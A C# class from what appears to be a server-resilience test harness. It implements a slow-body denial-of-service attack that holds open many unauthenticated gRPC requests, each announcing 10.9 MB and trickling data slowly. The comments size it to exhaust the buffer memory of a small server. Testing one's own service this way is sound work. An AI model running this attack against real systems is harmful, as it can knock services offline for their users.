using System.Buffers.Binary;

namespace Larder.Lab.Peers.Attacks;

/// <summary>Sends requests that never end to routes that need no token. Their received bytes must not use the buffers of authorized callers.</summary>
internal sealed class UnfinishedBodiesAttack : IServerAttack
{
    /// <summary>The length that each request announces.</summary>
    public const int AnnouncedBytes = 10_900_000;

    private const int FirstBytes = 250_000;
    private const int NextBytes = 16_000;

    // The number of requests per connection to each path. With two paths and two connections, 180 requests occupy 45 MB. A server of 256 MB has only 32 MB for
    // buffers.
    private const int Streams = 45;

    // The interval of writes. It is short enough for a server that requires 64 KB/s.
    private static readonly TimeSpan s_between = TimeSpan.FromMilliseconds(200);

    private static readonly string[] s_paths = ["/token.Token/GenerateDisposableToken", "/grpc.health.v1.Health/Check"];

    /// <inheritdoc/>
    public string Name => "unfinished-bodies";

    /// <inheritdoc/>
    public string Description =>
        $"{2 * Streams} requests of 10.9 MB without a token on each connection, to two routes that need no token; each request is sent at 80 KB/s";

    /// <summary>Returns the beginning of a request: the message prefix of gRPC, and the beginning of an unknown field.</summary>
    public static byte[] Beginning()
    {
        byte[] bytes = new byte[FirstBytes];
        BinaryPrimitives.WriteInt32BigEndian(bytes.AsSpan(1), AnnouncedBytes);
        ProtoBytes.Bytes(2, new byte[AnnouncedBytes - 5]).AsSpan(0, 5).CopyTo(bytes.AsSpan(5));
        return bytes;
    }

    /// <inheritdoc/>
    public async Task RunAsync(AttackTarget target, AttackCounts counts, CancellationToken stop)
    {
        await using AttackConnection connection = await AttackConnection.OpenAsync(target, counts, AttackConnection.OpenWindow, stop).ConfigureAwait(false);
        IEnumerable<string> paths = Enumerable.Repeat(s_paths, Streams).SelectMany(paths => paths);
        await Task.WhenAll(paths.Select(path => RepeatAsync(connection, path, counts, stop))).ConfigureAwait(false);
    }

    // Sends one request after another. If the server refuses a request, the next one replaces it, so the number of concurrent requests stays the same.
    private static async Task RepeatAsync(AttackConnection connection, string path, AttackCounts counts, CancellationToken stop)
    {
        while (true)
        {
            await UploadAsync(connection, path, counts, stop).ConfigureAwait(false);
            await Task.Delay(s_between, stop).ConfigureAwait(false);
        }
    }

    private static async Task UploadAsync(AttackConnection connection, string path, AttackCounts counts, CancellationToken stop)
    {
        AttackStream stream = await connection.CallAsync(HeaderBlock.Of(path, isSecure: false), stop).ConfigureAwait(false);
        counts.AddRequests(1);
        bool isOpen = await connection.SendAsync(stream, Beginning(), isEnd: false, stop).ConfigureAwait(false);
        byte[] more = new byte[NextBytes];
        for (int sent = FirstBytes; isOpen && sent + NextBytes < AnnouncedBytes; sent += NextBytes)
        {
            await Task.Delay(s_between, stop).ConfigureAwait(false);
            isOpen = await connection.SendAsync(stream, more, isEnd: false, stop).ConfigureAwait(false);
        }
    }
}
